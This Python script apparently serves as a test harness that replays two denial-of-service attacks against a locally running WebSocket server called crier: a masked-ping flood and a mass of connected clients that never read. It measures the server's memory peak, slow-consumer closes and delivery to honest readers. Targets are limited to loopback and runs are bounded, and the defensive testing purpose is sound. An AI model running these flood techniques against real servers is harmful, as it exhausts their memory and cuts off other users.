#!/usr/bin/env python3
"""attack.py: replay the two outbound-queue attacks of issue 9 against a running crier.

It starts nothing. Given a crier already listening (--ws, --publish-socket, --admin) and its
process id (--pid), it plays the attacker and a few honest clients over raw sockets, then
prints what happened: crier's peak VmRSS, the slow-consumer closes counted in /metrics,
messages received per honest reader and which clients were closed.

Modes:
  ping-flood   --flooders clients (small SO_RCVBUF) send masked empty pings as fast as
               they can for --duration and never read. One honest subscriber reads
               messages published at --rate meanwhile.
  non-readers  --non-readers clients complete the upgrade and never read; --readers honest
               clients read everything; --size-byte binary messages are published at
               --rate for --duration.

Python 3 standard library only. Loopback addresses only. Every run is bounded: at most
120 s of attack and 15,000 clients, a bounded drain afterwards (--drain, and 5 s to see
which attackers were closed), and a hard --timeout.
"""

import argparse
import base64
import http.client
import ipaddress
import json
import os
import resource
import selectors
import socket
import struct
import sys
import threading
import time

CHANNEL = "attack.feed"
# Flooders listen to a channel nobody publishes to: on the old code, only a broadcast
# reaching a connection ever checked (and released) its queue.
QUIET_CHANNEL = "attack.quiet"
KEY = base64.b64encode(b"crier-attack-key").decode()
# Largest counts the tool accepts: a process may hold 20,000 files on the test machines.
MAX_CLIENTS = 15000
MAX_DURATION = 120.0


def parse_hostport(s):
    host, _, port = s.rpartition(":")
    host = host.strip("[]")
    if not host or not port.isdigit():
        raise argparse.ArgumentTypeError(f"expected HOST:PORT, got {s!r}")
    try:
        ip = ipaddress.ip_address(socket.gethostbyname(host))
    except (OSError, ValueError) as e:
        raise argparse.ArgumentTypeError(f"cannot resolve {host!r}: {e}")
    if not ip.is_loopback:
        raise argparse.ArgumentTypeError(f"{s}: only loopback addresses may be attacked")
    return (str(ip), int(port))


# ---- measurements ------------------------------------------------------------------------


def vmrss(pid):
    """VmRSS of pid in bytes, or None once it is gone."""
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        return None
    return None


class RssSampler(threading.Thread):
    """Samples VmRSS every 20 ms and keeps the first, the peak and the last value."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.start_rss = vmrss(pid)
        if self.start_rss is None:
            sys.exit(f"attack.py: no process {pid} (or /proc/{pid}/status unreadable)")
        self.peak = self.start_rss
        self.last = self.start_rss
        self.stop = threading.Event()

    def run(self):
        while not self.stop.wait(0.02):
            v = vmrss(self.pid)
            if v is None:
                break
            self.last = v
            self.peak = max(self.peak, v)


def metrics(admin):
    conn = http.client.HTTPConnection(admin[0], admin[1], timeout=5)
    try:
        conn.request("GET", "/metrics")
        r = conn.getresponse()
        return r.read().decode()
    finally:
        conn.close()


def metric_sum(text, name, labels=None):
    """Sum of the series of `name` whose labels contain `labels`."""
    total = 0.0
    for line in text.splitlines():
        if not line.startswith(name) or line.startswith("#"):
            continue
        head, _, value = line.rpartition(" ")
        series = head.split("{", 1)
        if series[0] != name:
            continue
        if labels:
            lab = series[1] if len(series) > 1 else ""
            if not all(f'{k}="{v}"' in lab for k, v in labels.items()):
                continue
        total += float(value)
    return total


def slow_closes(admin):
    return metric_sum(metrics(admin), "crier_slow_consumer_closes_total")


def tcp_state(sock):
    """Kernel TCP state of a socket (1 = ESTABLISHED; anything else: the peer closed)."""
    try:
        return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    except OSError:
        return 0


# ---- WebSocket client bits ---------------------------------------------------------------


def connect(ws, rcvbuf, channel=CHANNEL, timeout=10.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        # Before connect, so the window the client advertises is small from the start.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(timeout)
    s.connect(ws)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    req = (
        f"GET /ws?channels={channel} HTTP/1.1\r\nHost: {ws[0]}:{ws[1]}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {KEY}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )
    s.sendall(req.encode())
    head = b""
    while b"\r\n\r\n" not in head:
        # Byte by byte: the response head is all this client takes off the socket.
        b = s.recv(1)
        if not b:
            raise ConnectionError("closed during the upgrade")
        head += b
        if len(head) > 8192:
            raise ConnectionError("upgrade response too long")
    status = head.split(b"\r\n", 1)[0]
    if b" 101 " not in status + b" ":
        raise ConnectionError(f"upgrade refused: {status.decode(errors='replace')}")
    return s


def masked_frame(opcode, payload=b""):
    mask = os.urandom(4)
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    assert len(payload) < 126
    return bytes([0x80 | opcode, 0x80 | len(payload)]) + mask + body


class Reader(threading.Thread):
    """An honest subscriber: reads everything, checks that message i carries index i."""

    def __init__(self, ws, name, rcvbuf, state):
        super().__init__(daemon=True)
        self.name = name
        self.sock = connect(ws, rcvbuf)
        self.state = state
        self.received = 0
        self.out_of_order = 0
        self.closed = None  # close code, "eof", "reset" or None while open
        self.error = None

    def run(self):
        s = self.sock
        s.settimeout(0.2)
        buf = bytearray()
        pos = 0
        try:
            while True:
                st = self.state
                if st["done"].is_set() and self.received >= st["published"]:
                    return
                if time.monotonic() > st["drain_until"]:
                    return
                try:
                    chunk = s.recv(1 << 18)
                except socket.timeout:
                    continue
                if not chunk:
                    self.closed = self.closed or "eof"
                    return
                buf += chunk
                while True:
                    avail = len(buf) - pos
                    if avail < 2:
                        break
                    b0, b1 = buf[pos], buf[pos + 1]
                    n = b1 & 0x7F
                    hdr = 2
                    if n == 126:
                        if avail < 4:
                            break
                        n = struct.unpack_from(">H", buf, pos + 2)[0]
                        hdr = 4
                    elif n == 127:
                        if avail < 10:
                            break
                        n = struct.unpack_from(">Q", buf, pos + 2)[0]
                        hdr = 10
                    if avail < hdr + n:
                        break
                    op = b0 & 0x0F
                    start = pos + hdr
                    if op in (1, 2):
                        idx = struct.unpack_from(">Q", buf, start)[0] if n >= 8 else -1
                        if idx != self.received:
                            self.out_of_order += 1
                        self.received += 1
                    elif op == 9:
                        s.sendall(masked_frame(0xA, bytes(buf[start : start + n])))
                    elif op == 8:
                        self.closed = struct.unpack_from(">H", buf, start)[0] if n >= 2 else "close"
                        return
                    pos = start + n
                if pos > (1 << 20):
                    del buf[:pos]
                    pos = 0
        except ConnectionResetError:
            self.closed = self.closed or "reset"
        except OSError as e:
            self.error = str(e)
            self.closed = self.closed or "error"


def publisher(path, rate, size, duration, state, deadline):
    """Publishes binary messages whose first 8 bytes are their index, at `rate` per second."""
    p = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    p.settimeout(10)
    p.connect(path)
    filler = os.urandom(max(size - 8, 0))
    replies = bytearray()
    acked = 0
    refused = 0
    start = time.monotonic()
    n = 0
    while n < rate * duration and time.monotonic() < deadline:
        due = start + n / rate
        wait = due - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        payload = struct.pack(">Q", n) + filler
        p.sendall(f"PUB {CHANNEL} {len(payload)} binary\r\n".encode() + payload + b"\r\n")
        n += 1
        # Replies are collected as they come, so the socket never backs up.
        p.setblocking(False)
        try:
            while True:
                r = p.recv(65536)
                if not r:
                    break
                replies += r
        except BlockingIOError:
            pass
        p.setblocking(True)
        p.settimeout(10)
    state["published"] = n
    lag = time.monotonic() - (start + (n - 1) / rate) if n else 0.0
    while replies.count(b"\n") < n and time.monotonic() < deadline:
        try:
            r = p.recv(65536)
        except socket.timeout:
            break
        if not r:
            break
        replies += r
    for line in bytes(replies).split(b"\n"):
        if line.startswith(b"+OK"):
            acked += 1
        elif line.startswith(b"-ERR"):
            refused += 1
    p.close()
    state["acked"] = acked
    state["refused"] = refused
    state["publish_lag"] = lag


def drain_closed(socks, until):
    """After the attack: reads what each attacker was sent, until EOF or reset (the server
    closed it) or `until`. Returns how many were closed. A socket the server closed while
    its receive window was full shows the close only once its backlog has been read."""
    sel = selectors.DefaultSelector()
    for s in socks:
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
    closed = 0
    open_left = len(socks)
    while open_left and time.monotonic() < until:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                while True:
                    b = s.recv(1 << 18)
                    if not b:
                        raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                sel.unregister(s)
                closed += 1
                open_left -= 1
    sel.close()
    return closed


# ---- the attacks ---------------------------------------------------------------------------


def flood(sock, until, result):
    """Sends masked empty pings (6 bytes each) until `until` or until the server closes."""
    ping = masked_frame(0x9)
    block = ping * (65536 // len(ping))
    sock.settimeout(0.5)
    sent = 0
    t0 = time.monotonic()
    while time.monotonic() < until:
        try:
            sent += sock.send(block)
        except socket.timeout:
            continue
        except (BrokenPipeError, ConnectionResetError) as e:
            result["closed_after_s"] = round(time.monotonic() - t0, 3)
            result["closed_by"] = type(e).__name__
            break
        except OSError as e:
            result["closed_after_s"] = round(time.monotonic() - t0, 3)
            result["closed_by"] = str(e)
            break
    result["ping_bytes_sent"] = sent
    result["tcp_state_after"] = tcp_state(sock)


def run(args):
    deadline = time.monotonic() + args.timeout
    rss = RssSampler(args.pid)
    slow0 = slow_closes(args.admin)
    conns0 = metric_sum(metrics(args.admin), "crier_connections")
    state = {"done": threading.Event(), "published": 0, "drain_until": float("inf")}
    report = {"mode": args.mode, "pid": args.pid}

    readers = []
    n_readers = 1 if args.mode == "ping-flood" else args.readers
    for i in range(n_readers):
        readers.append(Reader(args.ws, f"reader-{i}", args.reader_rcvbuf, state))
    attackers = []
    n_attackers = args.flooders if args.mode == "ping-flood" else args.non_readers
    t_connect = time.monotonic()
    channel = QUIET_CHANNEL if args.mode == "ping-flood" else CHANNEL
    for i in range(n_attackers):
        attackers.append(connect(args.ws, args.rcvbuf, channel))
    report["connect_s"] = round(time.monotonic() - t_connect, 3)
    for r in readers:
        r.start()
    # Wait until crier has registered everyone, so the first message reaches all of them.
    want = conns0 + n_readers + n_attackers
    while metric_sum(metrics(args.admin), "crier_connections") < want and time.monotonic() < deadline:
        time.sleep(0.02)

    rss.start()
    rss_before_attack = vmrss(args.pid)
    t0 = time.monotonic()
    until = t0 + args.duration
    floods = []
    flood_threads = []
    if args.mode == "ping-flood":
        for s in attackers:
            res = {}
            floods.append(res)
            t = threading.Thread(target=flood, args=(s, until, res), daemon=True)
            t.start()
            flood_threads.append(t)
    publisher(args.publish_socket, args.rate, args.size, args.duration, state, min(deadline, until + 5))
    for t in flood_threads:
        t.join(max(0.0, deadline - time.monotonic()))
    report["attack_s"] = round(time.monotonic() - t0, 3)
    state["drain_until"] = min(deadline, time.monotonic() + args.drain)
    state["done"].set()
    for r in readers:
        r.join(max(0.0, state["drain_until"] - time.monotonic()) + 1)
    rss.stop.set()
    rss.join(1)

    slow1 = slow_closes(args.admin)
    published = state["published"]
    report["published"] = {
        "messages": published,
        "bytes_each": args.size,
        "rate": args.rate,
        "acked": state.get("acked"),
        "refused": state.get("refused"),
        "lag_behind_schedule_s": round(state.get("publish_lag", 0.0), 3),
    }
    report["rss_mib"] = {
        "start": round(rss.start_rss / 2**20, 1),
        "before_attack": round((rss_before_attack or 0) / 2**20, 1),
        "peak": round(rss.peak / 2**20, 1),
        "end": round(rss.last / 2**20, 1),
        "peak_minus_start": round((rss.peak - rss.start_rss) / 2**20, 1),
    }
    report["slow_consumer_closes"] = {"before": slow0, "after": slow1, "delta": slow1 - slow0}
    report["readers"] = {
        "count": len(readers),
        "received": [r.received for r in readers],
        "got_everything_in_order": sum(1 for r in readers if r.received == published and r.out_of_order == 0),
        "out_of_order": sum(r.out_of_order for r in readers),
        "closed": sum(1 for r in readers if r.closed is not None),
        "close_codes": sorted({str(r.closed) for r in readers if r.closed is not None}),
        "messages_missed": sum(published - r.received for r in readers),
    }
    closed = drain_closed(attackers, min(deadline, time.monotonic() + 5.0))
    key = "flooders" if args.mode == "ping-flood" else "non_readers"
    report[key] = {"count": len(attackers), "closed_by_server": closed}
    if floods:
        report[key]["detail"] = floods
        report[key]["ping_mib_sent"] = round(sum(f.get("ping_bytes_sent", 0) for f in floods) / 2**20, 1)
    report["timed_out"] = time.monotonic() >= deadline
    for s in attackers:
        s.close()
    for r in readers:
        r.sock.close()
    return report


def print_report(rep):
    rss = rep["rss_mib"]
    print(f"attack {rep['mode']} against pid {rep['pid']} ({rep['attack_s']} s)")
    pub = rep["published"]
    print(
        f"published        {pub['messages']} x {pub['bytes_each']} B at {pub['rate']}/s "
        f"(acked {pub['acked']}, refused {pub['refused']}, lag {pub['lag_behind_schedule_s']} s)"
    )
    print(
        f"crier VmRSS      start {rss['start']} MiB, peak {rss['peak']} MiB (+{rss['peak_minus_start']}), "
        f"end {rss['end']} MiB"
    )
    sc = rep["slow_consumer_closes"]
    print(f"slow-consumer    crier_slow_consumer_closes_total {sc['before']:.0f} -> {sc['after']:.0f} (+{sc['delta']:.0f})")
    rd = rep["readers"]
    print(
        f"readers          {rd['count']}: {rd['got_everything_in_order']} got every message in order, "
        f"{rd['closed']} closed {rd['close_codes']}, {rd['messages_missed']} deliveries missed, "
        f"{rd['out_of_order']} out of order"
    )
    print(f"                 received per reader: {rd['received']}")
    key = "flooders" if rep["mode"] == "ping-flood" else "non_readers"
    a = rep[key]
    extra = f", {a['ping_mib_sent']} MiB of pings sent" if "ping_mib_sent" in a else ""
    print(f"{key:<16} {a['count']}: {a['closed_by_server']} closed by the server{extra}")
    for d in a.get("detail", []):
        print(f"                 {d}")
    if rep["timed_out"]:
        print("TIMED OUT (hit --timeout)")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("mode", choices=["ping-flood", "non-readers"])
    ap.add_argument("--ws", type=parse_hostport, required=True, help="crier's WebSocket HOST:PORT (loopback)")
    ap.add_argument("--publish-socket", required=True, help="crier's publisher Unix socket")
    ap.add_argument("--admin", type=parse_hostport, required=True, help="crier's admin HOST:PORT (/metrics)")
    ap.add_argument("--pid", type=int, required=True, help="crier's process id (VmRSS is sampled)")
    ap.add_argument("--duration", type=float, help="seconds of attack (ping-flood 5, non-readers 10)")
    ap.add_argument("--rate", type=float, help="messages published per second (ping-flood 20, non-readers 50)")
    ap.add_argument("--size", type=int, help="payload bytes (ping-flood 1024, non-readers 65536)")
    ap.add_argument("--flooders", type=int, default=1, help="ping-flood: flooding clients (1)")
    ap.add_argument("--non-readers", type=int, default=1000, help="non-readers: clients that never read (1000)")
    ap.add_argument("--readers", type=int, default=25, help="non-readers: honest readers (25)")
    ap.add_argument(
        "--rcvbuf", type=int, help="SO_RCVBUF of attacking sockets, 0 = kernel default (ping-flood 4096, non-readers 0)"
    )
    ap.add_argument("--reader-rcvbuf", type=int, default=0, help="SO_RCVBUF of honest readers (0 = kernel default)")
    ap.add_argument("--drain", type=float, default=10.0, help="seconds readers may take to catch up after the attack")
    ap.add_argument("--timeout", type=float, help="hard deadline for the whole run (duration + drain + 60)")
    ap.add_argument("--json", action="store_true", help="print the report as JSON")
    args = ap.parse_args()
    flood_mode = args.mode == "ping-flood"
    args.duration = args.duration if args.duration is not None else (5.0 if flood_mode else 10.0)
    args.rate = args.rate if args.rate is not None else (20.0 if flood_mode else 50.0)
    args.size = args.size if args.size is not None else (1024 if flood_mode else 65536)
    args.rcvbuf = args.rcvbuf if args.rcvbuf is not None else (4096 if flood_mode else 0)
    args.timeout = args.timeout if args.timeout is not None else args.duration + args.drain + 60
    if not 0 < args.duration <= MAX_DURATION:
        ap.error(f"--duration must be in (0, {MAX_DURATION:.0f}] seconds")
    if not 0 < args.rate <= 10000 or args.size < 8 or args.size > 16 << 20:
        ap.error("--rate must be in (0, 10000], --size in [8, 16 MiB]")
    clients = (args.flooders if flood_mode else args.non_readers + args.readers) + 1
    if clients > MAX_CLIENTS:
        ap.error(f"at most {MAX_CLIENTS} clients")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < clients + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, clients + 1024), hard))
    rep = run(args)
    if args.json:
        print(json.dumps(rep, indent=2))
    else:
        print_report(rep)


if __name__ == "__main__":
    main()
